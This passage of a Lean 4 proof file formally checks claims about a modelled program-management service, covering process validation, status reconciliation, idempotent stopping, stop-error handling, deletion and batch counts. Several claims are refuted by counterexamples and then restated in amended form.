            Program).WorkingDir 0 =
        ProcessManager.StartProcess Env.noDirs "sleep 30" "" 0 :=
  ⟨fun _ => rfl,
    (C6_missing_working_dir_ignored Env.noDirs
      { sampleProgram "a" "x" "sleep 30" with WorkingDir := "/no/such/dir" } "sleep 30" 0
      (fun _ => rfl)).2⟩

/-- C7, as stated, fails: for the command line `vim sleep.txt` and the command `sleep 30`
the first argv token differs from the first token of the command, and validateProcess
returns true. -/
theorem C7_counterexample :
    firstArgv ((Env.vim.cmdline 0 1).getD "") = "vim" ∧
      Fields "sleep 30" = ["sleep", "30"] ∧
      Verify_spec (Env.vim.cmdline 0 1) "sleep 30" = false ∧
      (validateProcess Env.vim 1 "sleep 30" 0).1 = true := by
  decide

/-- C7 (amended). validateProcess returns true iff the pid is positive, the command line
of the process can be read, the command has a first whitespace-separated token, and that
token occurs somewhere in the command line (NULs turned into spaces, then trimmed) as a
substring. Equality of the first argv token with the first token of the command is
sufficient for true, not necessary: `vim sleep.txt` is accepted for `sleep 30`. -/
theorem C7_validateProcess_contains (env : Env) (pid : Int) (command : String) (k : Nat) :
    ((validateProcess env pid command k).1 = true ↔
        0 < pid ∧ ∃ (data first : String) (rest : List String),
          env.cmdline k pid = some data ∧ Fields command = first :: rest ∧
            Contains (TrimSpace (replaceNul data)) first = true) ∧
      (0 < pid → Verify_spec (env.cmdline k pid) command = true →
        (validateProcess env pid command k).1 = true) := by
  have key : ∀ (data first : String) (rest : List String), 0 < pid →
      env.cmdline k pid = some data → Fields command = first :: rest →
      Contains (TrimSpace (replaceNul data)) first = true →
      (validateProcess env pid command k).1 = true := by
    intro data first rest hpid hdata hfields hc
    have hne : TrimSpace (replaceNul data) ≠ "" := by
      intro h
      rw [h] at hc
      have h1 := (Fields_first hfields).1
      unfold Contains containsChars at hc
      cases hd : first.data with
      | nil => exact h1 hd
      | cons x xs => rw [hd] at hc; simp at hc
    simp only [validateProcess, not_le.2 hpid, ↓reduceIte, hdata, hne, hfields, hc]
  constructor
  · constructor
    · simp only [validateProcess]
      split
      · intro h; simp at h
      · next hpid =>
        split
        · intro h; simp at h
        · next data hdata =>
          split
          · intro h; simp at h
          · split
            · intro h; simp at h
            · next first rest hfields =>
              intro h
              exact ⟨by omega, data, first, rest, hdata, hfields, h⟩
    · rintro ⟨hpid, data, first, rest, hdata, hfields, hc⟩
      exact key data first rest hpid hdata hfields hc
  · intro hpid hv
    unfold Verify_spec at hv
    split at hv
    · next d first rest hd hfields =>
      have harg : firstArgv d = first := by simpa using hv
      refine key d first rest hpid hd hfields ?_
      obtain ⟨r, hr⟩ := replaceNul_firstArgv d
      rw [harg] at hr
      obtain ⟨hne, hns⟩ := Fields_first hfields
      obtain ⟨r1, hr1⟩ := trimSpaceChars_keeps_token first.data r hne hns
      unfold Contains TrimSpace
      show containsChars (trimSpaceChars (replaceNul d).data) first.data = true
      rw [hr, hr1]
      exact containsChars_append_self _ _
    · simp at hv

/-- Witness for C7: a process `sleep 30` is verified for the command `sleep 30`. -/
theorem C7_validateProcess_contains_witness :
    (0 : Int) < 1 ∧ Verify_spec (Env.calm.cmdline 0 1) "sleep 30" = true ∧
      (validateProcess Env.calm 1 "sleep 30" 0).1 = true :=
  ⟨by decide, by decide,
    (C7_validateProcess_contains Env.calm 1 "sleep 30" 0).2 (by decide) (by decide)⟩

/-- C8, counterexample: the record says running under a dead pid and the temp file cannot
be written; the decision (stopped, 0) differs from the stored (running, 777) and is what
GetProgramStatus returns, yet nothing is persisted: the catalog still holds the old
record. -/
theorem C8_counterexample :
    mapGet (World.holding
        [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }]).catalog.Programs
        "a" =
        some { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 } ∧
      ((ProcessManager.GetProgramStatus { Env.dead with writeErr := fun _ => some "disk full" }
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 } 1).1.1,
       (ProcessManager.GetProgramStatus { Env.dead with writeErr := fun _ => some "disk full" }
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 } 1).1.2.1) =
        ("stopped", 0) ∧
      ((StatusService.GetProgramStatus { Env.dead with writeErr := fun _ => some "disk full" } "a"
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1.toOption.map
        fun r => (r.Status, r.PID)) = some ("stopped", 0) ∧
      (StatusService.GetProgramStatus { Env.dead with writeErr := fun _ => some "disk full" } "a"
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).2.catalog =
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }]).catalog := by
  decide

/-- C8, amended. The decision of ProcessManager.GetProgramStatus is (running, PID) exactly
when PID > 0, the liveness probe answers true and validateProcess answers true, and
(stopped, 0) otherwise, never with an error. For a record stored under id,
StatusService.GetProgramStatus(id) returns the load error and leaves the catalog as it was
when the catalog file cannot be read; when it can be read, it returns the record with the
decided status and pid, whether or not the save succeeds; it leaves the persisted catalog as
it was when the decision equals the stored (status, pid); and when the decision differs, it
persists, under id, the record with the decided status and pid and a fresh updated_at if the
save (directory, temp file, rename) succeeds, and leaves the persisted catalog as it was if
the save fails. -/
theorem C8_reconcile_decision (env : Env) (id : String) (p : Program) (w : World)
    (hget : mapGet w.catalog.Programs id = some p) :
    (∀ (q : Program) (k : Nat),
        (ProcessManager.GetProgramStatus env q k).1 =
          if 0 < q.PID ∧ (ProcessManager.IsProcessRunning env q.PID k).1 = true ∧
              (validateProcess env q.PID q.Command
                (ProcessManager.IsProcessRunning env q.PID k).2).1 = true
          then ("running", q.PID, none) else ("stopped", 0, none)) ∧
      (∀ (e : String) (w1 : World), FileStorage.LoadPrograms env w = (.error e, w1) →
        StatusService.GetProgramStatus env id w =
          (.error ("failed to load programs: " ++ e), w1) ∧ w1.catalog = w.catalog) ∧
      (env.readErr w.tick = none →
        (∃ r : Program,
          (StatusService.GetProgramStatus env id w).1 = .ok r ∧
            r.ID = p.ID ∧ r.Command = p.Command ∧
            r.Status = (ProcessManager.GetProgramStatus env p w.next.tick).1.1 ∧
            r.PID = (ProcessManager.GetProgramStatus env p w.next.tick).1.2.1) ∧
        (((ProcessManager.GetProgramStatus env p w.next.tick).1.1 = p.Status ∧
            (ProcessManager.GetProgramStatus env p w.next.tick).1.2.1 = p.PID) →
          (StatusService.GetProgramStatus env id w).2.catalog = w.catalog) ∧
        (¬((ProcessManager.GetProgramStatus env p w.next.tick).1.1 = p.Status ∧
            (ProcessManager.GetProgramStatus env p w.next.tick).1.2.1 = p.PID) →
          ((env.dirErr ((ProcessManager.GetProgramStatus env p w.next.tick).2 + 2) = none ∧
              env.writeErr ((ProcessManager.GetProgramStatus env p w.next.tick).2 + 2) = none ∧
              env.renameErr ((ProcessManager.GetProgramStatus env p w.next.tick).2 + 2) = none) →
            ∃ t : Time,
              (StatusService.GetProgramStatus env id w).2.catalog =
                { w.catalog with
                  Programs := mapSet w.catalog.Programs id
                    { p with
                      Status := (ProcessManager.GetProgramStatus env p w.next.tick).1.1,
                      PID := (ProcessManager.GetProgramStatus env p w.next.tick).1.2.1,
                      UpdatedAt := t } }) ∧
          (¬(env.dirErr ((ProcessManager.GetProgramStatus env p w.next.tick).2 + 2) = none ∧
              env.writeErr ((ProcessManager.GetProgramStatus env p w.next.tick).2 + 2) = none ∧
              env.renameErr ((ProcessManager.GetProgramStatus env p w.next.tick).2 + 2) = none) →
            (StatusService.GetProgramStatus env id w).2.catalog = w.catalog))) := by
  have hg : w.catalog.GetProgramByID id = some p := hget
  refine ⟨?_, ?_, ?_⟩
  · intro q k
    simp only [ProcessManager.GetProgramStatus]
    split
    · next h => simp [not_lt.2 h]
    · next h =>
      have hpos : 0 < q.PID := by omega
      split
      · next h1 => simp [h1]
      · next k1 h1 =>
        split
        · next h2 => simp [h1, h2]
        · next h2 => simp [h1, h2, hpos]
  · intro e w1 h
    refine ⟨?_, ?_⟩
    · simp only [StatusService.GetProgramStatus, h]
    · rw [Load_eq_error h]; rfl
  · intro hread
    have hload : FileStorage.LoadPrograms env w = (.ok w.catalog, w.next) := Load_of_ok hread
    refine ⟨?_, ?_, ?_⟩
    · simp only [StatusService.GetProgramStatus, hload, hg, StatusService.reconcile, actual_eq]
      split
      · exact ⟨_, rfl, rfl, rfl, rfl, rfl⟩
      · next hs =>
        refine ⟨_, rfl, rfl, rfl, ?_, ?_⟩
        · by_contra hne
          exact hs (Or.inl fun h => hne h.symm)
        · by_contra hne
          exact hs (Or.inr fun h => hne h.symm)
    · intro hsame
      simp only [StatusService.GetProgramStatus, hload, hg, StatusService.reconcile, actual_eq]
      rw [if_neg (by simp [hsame.1, hsame.2])]
      rfl
    · intro hdiff
      have hd : (ProcessManager.GetProgramStatus env p w.next.tick).1.1 ≠ p.Status ∨
          (ProcessManager.GetProgramStatus env p w.next.tick).1.2.1 ≠ p.PID := by
        by_contra hcon
        simp only [not_or, not_not] at hcon
        exact hdiff hcon
      refine ⟨?_, ?_⟩
      · intro hsave
        simp only [StatusService.GetProgramStatus, hload, hg, StatusService.reconcile, actual_eq]
        rw [if_pos hd]
        simp only [ProgramManager.UpdateProgram, hget]
        rw [Save_of_ok _ hsave.1 hsave.2.1 hsave.2.2]
        exact ⟨_, rfl⟩
      · intro hfault
        simp only [StatusService.GetProgramStatus, hload, hg, StatusService.reconcile, actual_eq]
        rw [if_pos hd]
        exact Save_fault_catalog env _ _ hfault

/-- Witness for C8: a record said to be running under a dead pid is corrected. -/
theorem C8_reconcile_decision_witness :
    mapGet (World.holding
        [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }]).catalog.Programs
        "a" =
        some { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 } ∧
      ∃ r : Program,
        (StatusService.GetProgramStatus Env.dead "a"
          (World.holding
            [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1 =
            .ok r ∧
          r.ID = "a" ∧ r.Command = "sleep 1" ∧ r.Status = "stopped" ∧ r.PID = 0 :=
  ⟨by decide,
    ((C8_reconcile_decision Env.dead "a"
      { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
      (World.holding [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])
      (by decide)).2.2 rfl).1⟩

/-- C9 (the code breaks the claim). On a catalog holding one stopped record with pid 0,
with every probe answering the same at every call, RefreshAllStatuses run once rewrites
the record although it is consistent (updated_at moves from 0 to the clock), and run a
second time rewrites it again: the catalog after two runs differs from the catalog after
one. The sibling GetAllProgramsStatus leaves the same catalog untouched. -/
theorem C9_refresh_rewrites_consistent_records :
    (StatusService.RefreshAllStatuses Env.calm
        (World.holding [sampleProgram "a" "x" "sleep 1"])).2.catalog =
        { Programs := [("a", { sampleProgram "a" "x" "sleep 1" with UpdatedAt := 103 })],
          Version := "1.0" } ∧
      (StatusService.RefreshAllStatuses Env.calm
        (StatusService.RefreshAllStatuses Env.calm
          (World.holding [sampleProgram "a" "x" "sleep 1"])).2).2.catalog =
        { Programs := [("a", { sampleProgram "a" "x" "sleep 1" with UpdatedAt := 108 })],
          Version := "1.0" } ∧
      (StatusService.GetAllProgramsStatus Env.calm
        (World.holding [sampleProgram "a" "x" "sleep 1"])).2.catalog =
        (World.holding [sampleProgram "a" "x" "sleep 1"]).catalog := by
  decide

/-- C10, counterexample: the first StopProgram succeeds, then the catalog file becomes
unreadable; the second StopProgram for the same id returns a load error, although the
program is already stopped. -/
theorem C10_counterexample :
    (ProgramService.StopProgram
        { Env.dead with readErr := fun k => if k = 0 then none else some "permission denied" }
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1.1 =
        none ∧
      (ProgramService.StopProgram
        { Env.dead with readErr := fun k => if k = 0 then none else some "permission denied" }
        (sampleProgram "a" "x" "sleep 1")
        (ProgramService.StopProgram
          { Env.dead with readErr := fun k => if k = 0 then none else some "permission denied" }
          { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
          (World.holding
            [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).2).1.1 =
        some "failed to load programs: failed to read file: permission denied" := by
  decide

/-- C10, amended. If ProgramService.StopProgram succeeds for an id, then after a second
StopProgram for the same id the record stored under the id has status stopped and pid 0,
whatever the operating system and the storage do; the second call returns either no error,
or a load error of the catalog file, or a save error of the catalog file, and nothing else
(no signal is sent, so no stop error and no not-found error); and it returns no error when
the storage works from the end of the first call on. -/
theorem C10_stop_idempotent (env : Env) (p p2 : Program) (w : World)
    (hid : p2.ID = p.ID)
    (hfirst : (ProgramService.StopProgram env p w).1.1 = none) :
    (∃ q : Program,
        mapGet (ProgramService.StopProgram env p2
          (ProgramService.StopProgram env p w).2).2.catalog.Programs p.ID = some q ∧
          q.Status = "stopped" ∧ q.PID = 0) ∧
      ((ProgramService.StopProgram env p2 (ProgramService.StopProgram env p w).2).1.1 = none ∨
        (∃ e, (ProgramService.StopProgram env p2 (ProgramService.StopProgram env p w).2).1.1 =
          some ("failed to load programs: " ++ e)) ∨
        (∃ e, (ProgramService.StopProgram env p2 (ProgramService.StopProgram env p w).2).1.1 =
          some ("failed to save program: " ++ e))) ∧
      (env.storageOKFrom (ProgramService.StopProgram env p w).2.tick →
        (ProgramService.StopProgram env p2 (ProgramService.StopProgram env p w).2).1.1 =
          none) := by
  obtain ⟨q0, hq0, hst, hpid⟩ := Service_StopProgram_success env p w hfirst
  rw [← hid] at hq0 ⊢
  exact ⟨Service_StopProgram_stays_stopped env p2 q0 _ hq0 hst hpid,
    Service_StopProgram_of_stopped_cases env p2 q0 _ hq0 hpid,
    fun hio => (Service_StopProgram_of_stopped env p2 q0 _ hio hq0 hpid).1⟩

/-- Witness for C10: a running record whose process has gone is stopped twice. -/
theorem C10_stop_idempotent_witness :
    (ProgramService.StopProgram Env.dead
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1.1 =
        none ∧
      (ProgramService.StopProgram Env.dead (sampleProgram "a" "x" "sleep 1")
        (ProgramService.StopProgram Env.dead
          { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
          (World.holding
            [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).2).1.1 =
        none :=
  ⟨by decide,
    (C10_stop_idempotent Env.dead
      { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
      (sampleProgram "a" "x" "sleep 1")
      (World.holding [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])
      rfl (by decide)).2.2 (fun _ _ => ⟨rfl, rfl, rfl, rfl⟩)⟩

/-! ## Stop errors and deletion -/

theorem PM_StopProgram_error_keeps (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.StopProgram env p k).1.1 ≠ none →
      (ProcessManager.StopProgram env p k).1.2 = p := by
  simp only [ProcessManager.StopProgram]
  repeat' split
  all_goals first
    | (intro h; exact absurd rfl h)
    | (intro _; rfl)

theorem Service_StopProgram_error_catalog (env : Env) (p : Program) (w : World) :
    (ProgramService.StopProgram env p w).1.1 ≠ none →
      (ProgramService.StopProgram env p w).2.catalog = w.catalog := by
  simp only [ProgramService.StopProgram]
  split
  · next h => intro _; rw [Load_eq_error h]; rfl
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    split
    · intro _; rfl
    · split
      · intro _; rfl
      · split
        · intro _; rfl
        · split
          · next hs => intro _; simp only; rw [Save_error_catalog hs]; rfl
          · intro h; exact absurd rfl h

theorem mapDelete_cons_eq (k1 k : String) (v1 : Program) (rest : List (String × Program))
    (h : k1 = k) : mapDelete ((k1, v1) :: rest) k = mapDelete rest k := by
  simp [mapDelete, h]

theorem mapDelete_cons_ne (k1 k : String) (v1 : Program) (rest : List (String × Program))
    (h : k1 ≠ k) : mapDelete ((k1, v1) :: rest) k = (k1, v1) :: mapDelete rest k := by
  simp [mapDelete, h]

theorem mapGet_mapDelete_self (m : List (String × Program)) (k : String) :
    mapGet (mapDelete m k) k = none := by
  induction m with
  | nil => rfl
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    by_cases h : k1 = k
    · rw [mapDelete_cons_eq k1 k v1 rest h]; exact ih
    · rw [mapDelete_cons_ne k1 k v1 rest h]; simp [mapGet, h, ih]

theorem mapGet_mapDelete_other (m : List (String × Program)) {k k2 : String}
    (hne : k2 ≠ k) : mapGet (mapDelete m k) k2 = mapGet m k2 := by
  induction m with
  | nil => rfl
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    by_cases h : k1 = k
    · rw [mapDelete_cons_eq k1 k v1 rest h, ih]
      have h2 : k1 ≠ k2 := fun h3 => hne (h3 ▸ h)
      simp [mapGet, h2]
    · rw [mapDelete_cons_ne k1 k v1 rest h]
      by_cases h2 : k1 = k2
      · simp [mapGet, h2]
      · simp [mapGet, h2, ih]

/-- C11, as stated, fails: the process is alive at the first probe of StopProgram and gone
at the probe of StopProcess, which therefore returns an error; the OS reports the process
gone, ProgramService.StopProgram returns the error, and the persisted record is still
running with pid 777. -/
theorem C11_counterexample :
    (ProcessManager.IsProcessRunning Env.dying 777 1).1 = true ∧
      (ProcessManager.StopProcess Env.dying 777 2).1 ≠ none ∧
      (ProcessManager.IsProcessRunning Env.dying 777 2).1 = false ∧
      (ProgramService.StopProgram Env.dying
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1.1 ≠
        none ∧
      mapGet (ProgramService.StopProgram Env.dying
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).2.catalog.Programs
        "a" = some { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 } := by
  decide

/-- C11 (amended). When the runner's stop returns an error, ProgramService.StopProgram
propagates it (wrapped as `failed to stop program: ...`) and persists nothing: whenever
StopProgram returns an error, the persisted catalog and the caller's record are exactly
what they were before the call, whether or not the process is still alive. The record
becomes (stopped, 0) only through a call that returns no error. -/
theorem C11_stop_error_persists_nothing (env : Env) (p : Program) (w : World) :
    ((ProgramService.StopProgram env p w).1.1 ≠ none →
        (ProgramService.StopProgram env p w).2.catalog = w.catalog ∧
          (ProgramService.StopProgram env p w).1.2 = p) ∧
      (∀ (stored : Program) (e : String), env.readErr w.tick = none →
        mapGet w.catalog.Programs p.ID = some stored →
        (ProcessManager.StopProgram env stored w.next.tick).1.1 = some e →
        (ProgramService.StopProgram env p w).1.1 = some ("failed to stop program: " ++ e)) ∧
      ((ProgramService.StopProgram env p w).1.1 = none →
        ∃ q : Program,
          mapGet (ProgramService.StopProgram env p w).2.catalog.Programs p.ID = some q ∧
            q.Status = "stopped" ∧ q.PID = 0) := by
  refine ⟨fun h => ⟨Service_StopProgram_error_catalog env p w h, ?_⟩, ?_,
    Service_StopProgram_success env p w⟩
  · revert h
    simp only [ProgramService.StopProgram]
    repeat' split
    all_goals first
      | (intro _; rfl)
      | (intro h; exact absurd rfl h)
  · intro stored e hread hget hstop
    have hg : w.catalog.GetProgramByID p.ID = some stored := hget
    simp only [ProgramService.StopProgram, Load_of_ok hread, hg]
    split
    · next e1 q k2 heq =>
      rw [heq] at hstop
      simp only [Option.some.injEq] at hstop
      rw [hstop]
    · next q k2 heq =>
      rw [heq] at hstop
      simp at hstop

/-- Witness for C11: the failing stop of the counterexample leaves the catalog as it
was. -/
theorem C11_stop_error_persists_nothing_witness :
    (ProgramService.StopProgram Env.dying
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1.1 ≠
        none ∧
      (ProgramService.StopProgram Env.dying
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running",
                                                  PID := 777 }])).2.catalog =
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }]).catalog :=
  ⟨by decide,
    ((C11_stop_error_persists_nothing Env.dying
      { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
      (World.holding
        [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1
      (by decide)).1⟩

theorem Model_RemoveProgram_true {pm pm1 : ProgramManager} {id : String}
    (h : pm.RemoveProgram id = (pm1, true)) :
    pm1 = { pm with Programs := mapDelete pm.Programs id } := by
  unfold ProgramManager.RemoveProgram at h
  split at h
  · simp at h
  · simp only [Prod.mk.injEq, and_true] at h
    exact h.symm

/-- C20, counterexample: the id `zz` is absent from the catalog and the catalog file
cannot be read; DeleteProgram returns the load error, which is not a not-found error, and
the handler answers 500. -/
theorem C20_counterexample :
    mapGet (World.holding [sampleProgram "a" "x" "sleep 1"]).catalog.Programs "zz" = none ∧
      (ProgramService.DeleteProgram
        { Env.calm with readErr := fun _ => some "permission denied" } "zz"
        (World.holding [sampleProgram "a" "x" "sleep 1"])).1 =
        some "failed to load programs: failed to read file: permission denied" ∧
      (ProgramHandler.DeleteProgram
        { Env.calm with readErr := fun _ => some "permission denied" } "zz"
        (World.holding [sampleProgram "a" "x" "sleep 1"])).1.status = 500 := by
  decide

/-- C20, amended. DeleteProgram: (a) when the id is absent it returns an error and the
catalog is unchanged, and the error is `program not found: id` whenever the catalog file
can be read; (b) when it returns no error the id is absent from the persisted catalog and
the record under every other key is what it was before the call; (c) when the catalog file
can be read, the record is running and the implicit stop fails, it returns that error
(wrapped as `failed to stop program before deletion: ...`) and the record is still stored
under the id, unchanged; (d) when the load of the catalog fails it returns the load error
(wrapped as `failed to load programs: ...`), whether the id is there or not. -/
theorem C20_delete_frame (env : Env) (id : String) (w : World) :
    (mapGet w.catalog.Programs id = none →
        (ProgramService.DeleteProgram env id w).1 ≠ none ∧
          (ProgramService.DeleteProgram env id w).2.catalog = w.catalog ∧
          (env.readErr w.tick = none →
            (ProgramService.DeleteProgram env id w).1 = some ("program not found: " ++ id))) ∧
      ((ProgramService.DeleteProgram env id w).1 = none →
        mapGet (ProgramService.DeleteProgram env id w).2.catalog.Programs id = none ∧
          ∀ k : String, k ≠ id →
            mapGet (ProgramService.DeleteProgram env id w).2.catalog.Programs k =
              mapGet w.catalog.Programs k) ∧
      (∀ (stored : Program) (e : String), env.readErr w.tick = none →
        mapGet w.catalog.Programs id = some stored → stored.Status = "running" →
        (ProgramService.StopProgram env stored w.next).1.1 = some e →
        (ProgramService.DeleteProgram env id w).1 =
            some ("failed to stop program before deletion: " ++ e) ∧
          mapGet (ProgramService.DeleteProgram env id w).2.catalog.Programs id =
            some stored) ∧
      (∀ (e : String) (w1 : World), FileStorage.LoadPrograms env w = (.error e, w1) →
        ProgramService.DeleteProgram env id w =
          (some ("failed to load programs: " ++ e), w1)) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  rotate_left 3
  · intro e w1 h
    simp only [ProgramService.DeleteProgram, h]
  · intro habs
    have hg : w.catalog.GetProgramByID id = none := habs
    refine ⟨?_, ?_, ?_⟩
    · simp only [ProgramService.DeleteProgram]
      split
      · simp
      · next pm w1 hl =>
        obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
        simp [hg]
    · simp only [ProgramService.DeleteProgram]
      split
      · next hl => rw [Load_eq_error hl]; rfl
      · next pm w1 hl =>
        obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
        simp only [hg]
        rfl
    · intro hread
      simp only [ProgramService.DeleteProgram, Load_of_ok hread, hg]
  · simp only [ProgramService.DeleteProgram]
    split
    · intro h; simp at h
    · next pm w1 hl =>
      obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
      split
      · intro h; simp at h
      · next program hg =>
        split
        · intro h; simp at h
        · split
          · intro h; simp at h
          · next pm1 hr =>
            have hpm1 := Model_RemoveProgram_true hr
            split
            · intro h; simp at h
            · next hs =>
              intro _
              have hcat := Save_none_catalog hs
              simp only
              rw [hcat, hpm1]
              exact ⟨mapGet_mapDelete_self _ _, fun k hk => mapGet_mapDelete_other _ hk⟩
  · intro stored e hread hget hrun hstop
    have hg : w.catalog.GetProgramByID id = some stored := hget
    have hne : (ProgramService.StopProgram env stored w.next).1.1 ≠ none := by
      rw [hstop]; simp
    have hcat := Service_StopProgram_error_catalog env stored w.next hne
    simp only [ProgramService.DeleteProgram, Load_of_ok hread, hg, hrun, ↓reduceIte]
    split
    · next e1 q w2 heq =>
      rw [heq] at hstop hcat
      simp only [Option.some.injEq] at hstop
      simp only at hcat
      subst hstop
      refine ⟨rfl, ?_⟩
      simp only
      rw [hcat]
      exact hget
    · next q w2 heq =>
      rw [heq] at hstop
      simp at hstop

/-- Witness for C20: deleting an absent id, deleting a stopped record next to another
one, deleting a running record whose stop fails, and deleting when the catalog file
cannot be read. -/
theorem C20_delete_frame_witness :
    (mapGet (World.holding [sampleProgram "a" "x" "sleep 1"]).catalog.Programs "zz" = none ∧
        (ProgramService.DeleteProgram Env.calm "zz"
          (World.holding [sampleProgram "a" "x" "sleep 1"])).1 ≠ none) ∧
      ((ProgramService.DeleteProgram Env.calm "a"
          (World.holding [sampleProgram "a" "x" "sleep 1", sampleProgram "b" "y" "sleep 2"])).1 =
          none ∧
        mapGet (ProgramService.DeleteProgram Env.calm "a"
          (World.holding [sampleProgram "a" "x" "sleep 1",
            sampleProgram "b" "y" "sleep 2"])).2.catalog.Programs "a" = none) ∧
      mapGet (ProgramService.DeleteProgram Env.calm "a"
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running",
                                                  PID := 777 }])).2.catalog.Programs "a" =
        some { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 } ∧
      ProgramService.DeleteProgram
          { Env.calm with readErr := fun _ => some "permission denied" } "zz"
          (World.holding [sampleProgram "a" "x" "sleep 1"]) =
        (some ("failed to load programs: " ++ "failed to read file: permission denied"),
          (World.holding [sampleProgram "a" "x" "sleep 1"]).next) :=
  ⟨⟨by decide,
      ((C20_delete_frame Env.calm "zz" (World.holding [sampleProgram "a" "x" "sleep 1"])).1
        (by decide)).1⟩,
    ⟨by decide,
      ((C20_delete_frame Env.calm "a"
        (World.holding [sampleProgram "a" "x" "sleep 1", sampleProgram "b" "y" "sleep 2"])).2.1
        (by decide)).1⟩,
    ((C20_delete_frame Env.calm "a"
      (World.holding
        [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).2.2.1
      { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
      ("failed to stop program: failed to stop program: " ++
        "process 777 did not terminate after kill signal")
      rfl (by decide) (by decide) (by decide)).2,
    (C20_delete_frame { Env.calm with readErr := fun _ => some "permission denied" } "zz"
      (World.holding [sampleProgram "a" "x" "sleep 1"])).2.2.2
      "failed to read file: permission denied"
      (World.holding [sampleProgram "a" "x" "sleep 1"]).next rfl⟩

/-! ## Batch operations -/

theorem resultGet_resultSet_self (m : List (String × BatchEntry)) (k : String)
    (v : BatchEntry) : resultGet (resultSet m k v) k = some v := by
  induction m with
  | nil => simp [resultSet, resultGet]
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    unfold resultSet
    split
    · simp [resultGet]
    · next hne => simp [resultGet, hne, ih]

theorem eachInOrder_length (op : String → World → Option String × World) (ids : List String) :
    ∀ w : World, (ProgramService.eachInOrder op ids w).1.length = ids.length := by
  induction ids with
  | nil => intro w; rfl
  | cons id rest ih =>
    intro w
    simp only [ProgramService.eachInOrder, List.length_cons, ih]

theorem batchStartLoop_counts (env : Env) (ids : List String) :
    ∀ (results : List (String × BatchEntry)) (s e : Nat) (w : World),
      (ProgramService.batchStartLoop env ids results s e w).1.2.1 =
          s + (ProgramService.eachInOrder (ProgramService.startOne env) ids w).1.countP
            (fun r => r.isNone) ∧
        (ProgramService.batchStartLoop env ids results s e w).1.2.2 =
          e + (ProgramService.eachInOrder (ProgramService.startOne env) ids w).1.countP
            (fun r => r.isSome) ∧
        (ProgramService.batchStartLoop env ids results s e w).2 =
          (ProgramService.eachInOrder (ProgramService.startOne env) ids w).2 := by
  induction ids with
  | nil => intro results s e w; exact ⟨rfl, rfl, rfl⟩
  | cons id rest ih =>
    intro results s e w
    simp only [ProgramService.batchStartLoop, ProgramService.eachInOrder,
      ProgramService.startOne]
    split
    · next err w1 hg =>
      obtain ⟨h1, h2, h3⟩ := ih (resultSet results id (.error err)) s (e + 1) w1
      simp only [h1, h2, h3]
      simp only [List.countP_cons, Option.isNone_some, Option.isSome_some, Option.isNone_none,
        Option.isSome_none, Bool.false_eq_true, ↓reduceIte, and_true]
      omega
    · next program w1 hg =>
      split
      · next err q w2 hs =>
        obtain ⟨h1, h2, h3⟩ := ih (resultSet results id (.error err)) s (e + 1) w2
        rw [hs]
        simp only [h1, h2, h3]
        simp only [List.countP_cons, Option.isNone_some, Option.isSome_some, Option.isNone_none,
          Option.isSome_none, Bool.false_eq_true, ↓reduceIte, and_true]
        omega
      · next q w2 hs =>
        obtain ⟨h1, h2, h3⟩ := ih (resultSet results id (.status "started")) (s + 1) e w2
        rw [hs]
        simp only [h1, h2, h3]
        simp only [List.countP_cons, Option.isNone_some, Option.isSome_some, Option.isNone_none,
          Option.isSome_none, Bool.false_eq_true, ↓reduceIte, and_true]
        omega

theorem batchStopLoop_counts (env : Env) (ids : List String) :
    ∀ (results : List (String × BatchEntry)) (s e : Nat) (w : World),
